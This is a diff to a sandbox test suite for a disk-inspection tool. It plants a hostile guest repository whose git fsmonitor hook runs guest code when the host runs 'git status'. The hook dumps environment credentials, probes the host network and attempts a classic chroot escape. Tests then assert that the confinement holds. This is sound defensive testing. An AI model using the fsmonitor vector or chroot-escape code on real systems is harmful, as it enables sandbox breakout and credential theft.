@@ -31,6 +31,7 @@ import json
 import os
 import shutil
 import signal
+import socket
 import stat
 import subprocess
 import sys
@@ -57,7 +58,55 @@ FILES = {
     'hostile/app.log': ('symlink', '/etc/shadow'),
     'hostile/victim': ('symlink', '/run/osc-nodeops-inspect-test-victim'),
     'hostile': ('dir', 0o777),
+    # /etc under git (etckeeper): an ordinary `git status` there runs the
+    # guest's core.fsmonitor hook, which reports what it can see and
+    # tries to leave the confinement (see PROBE).
+    'etc/.git/HEAD': 'ref: refs/heads/master\n',
+    'etc/.git/objects': ('dir', 0o755),
+    'etc/.git/refs': ('dir', 0o755),
+    'etc/.git/config': ('[core]\n\trepositoryformatversion = 0\n'
+                        '\tfsmonitor = python3 .git/fsmonitor-hook\n'),
 }
+# The guest's hook, run by the host's git through the confined command's
+# own PATH lookup of python3.  It prints one line, "PROBE {json}", to
+# stderr (git reads the hook's stdout) saying what it saw: its environment,
+# whether it reached a listener of the host's 127.0.0.1 (PROBE_PORT) and
+# which network interfaces it has; then it tries the classic chroot escape
+# (chroot into a subdirectory while holding the old root open, fchdir back
+# to it, climb "..", chroot there) and writes PROBE_MARKER, a path on the
+# host.
+PROBE = '''
+import json, os, socket, sys
+report = {'uid': os.getuid(), 'env': dict(os.environ)}
+try:
+    socket.create_connection(
+        ('127.0.0.1', int(os.environ['PROBE_PORT'])), timeout=5).close()
+    report['connect'] = 'connected'
+except OSError as exc:
+    report['connect'] = exc.strerror or str(exc)
+report['interfaces'] = sorted(name for _, name in socket.if_nameindex())
+marker = os.environ['PROBE_MARKER']
+try:
+    os.makedirs('/tmp/jail', exist_ok=True)
+    old_root = os.open('/', os.O_RDONLY)
+    os.chroot('/tmp/jail')
+    os.fchdir(old_root)
+    for _ in range(64):
+        os.chdir('..')
+    os.chroot('.')
+    with open(marker, 'w') as f:
+        f.write('escaped\\n')
+    report['escape'] = 'wrote ' + marker
+except OSError as exc:
+    report['escape'] = '%s: %s' % (type(exc).__name__, exc.strerror)
+sys.stderr.write('PROBE %s\\n' % json.dumps(report))
+'''
+FILES['etc/.git/fsmonitor-hook'] = PROBE
+# What the operator's environment holds and the guest must never see.
+SECRETS = {'OS_PASSWORD': 'probe-secret-password',
+           'OS_TOKEN': 'gAAAAAprobe-secret-token',
+           'OS_AUTH_URL': 'http://127.0.0.1:5000/v3',
+           'SSH_AUTH_SOCK': '/tmp/ssh-probe-agent.sock'}
 LOCAL_FILES = {'data.txt': 'ephemeral data\n'}
 
 
@@ -210,7 +259,7 @@ class InspectDiskLocalTest(_Rig, testtools.TestCase):
 
         rows, _ = self.session().run(inspect)
         self.assertEqual(b'guest1\n', out.getvalue())
-        self.assertEqual(['hostname', 'hostname-link'],
+        self.assertEqual(['.git', 'hostname', 'hostname-link'],
                          [r[0] for r in rows])
         self.assertNothingLeft()
 
@@ -311,6 +360,68 @@ class InspectDiskLocalTest(_Rig, testtools.TestCase):
         self.assertIn(b'No such file or directory', out.getvalue())
         self.assertNotIn(b'shadow', out.getvalue())
         self.assertNothingLeft()
+
+    def captured(self, func, *args):
+        """``func(*args)`` with our file descriptors 1 and 2 (which a
+        confined command inherits) sent to a file: (its result, the text)."""
+        sys.stdout.flush()
+        sys.stderr.flush()
+        with tempfile.TemporaryFile() as out:
+            saved = [os.dup(1), os.dup(2)]
+            os.dup2(out.fileno(), 1)
+            os.dup2(out.fileno(), 2)
+            try:
+                result = func(*args)
+            finally:
+                os.dup2(saved[0], 1)
+                os.dup2(saved[1], 2)
+                for fd in saved:
+                    os.close(fd)
+            out.seek(0)
+            return result, out.read().decode(errors='replace')
+
+    def run_guest_hook(self):
+        """The operator runs ``git status`` in the guest's /etc, read-only,
+        with credentials in the environment and a listener on the host's
+        127.0.0.1: the guest's fsmonitor hook reports (see PROBE)."""
+        for name, value in SECRETS.items():
+            self.useFixture(fixtures.EnvironmentVariable(name, value))
+        listener = socket.socket()
+        self.addCleanup(listener.close)
+        listener.bind(('127.0.0.1', 0))
+        listener.listen(8)
+        self.marker = os.path.join(self.root, 'escaped')
+        command = 'cd etc && PROBE_PORT=%d PROBE_MARKER=%s git status' % (
+            listener.getsockname()[1], self.marker)
+        (rc, text), _ = self.session().run(
+            lambda mp: self.captured(self.ops.exec_command, mp, command))
+        self.assertNothingLeft()
+        reports = [json.loads(line.split(' ', 1)[1])
+                   for line in text.splitlines()
+                   if line.startswith('PROBE ')]
+        # The hook did run (else the tests below would prove nothing).
+        self.assertEqual(1, len(reports), text)
+        self.assertEqual(0, rc, text)
+        return reports[0]
+
+    def test_guest_hook_cannot_escape_to_the_host(self):
+        report = self.run_guest_hook()
+        self.assertFalse(os.path.lexists(self.marker),
+                         'the guest wrote %s on the host' % self.marker)
+        self.assertNotIn('wrote', report['escape'])
+
+    def test_guest_hook_sees_no_credential(self):
+        env = self.run_guest_hook()['env']
+        leaked = sorted(k for k in env
+                        if k.startswith('OS_') or k == 'SSH_AUTH_SOCK')
+        self.assertEqual([], leaked, env)
+        for value in SECRETS.values():
+            self.assertNotIn(value, json.dumps(env))
+
+    def test_guest_hook_has_no_network(self):
+        report = self.run_guest_hook()
+        self.assertNotEqual('connected', report['connect'])
+        self.assertEqual(['lo'], report['interfaces'])
 
     def test_exception_in_inspect_tears_down(self):
         def inspect(mp):
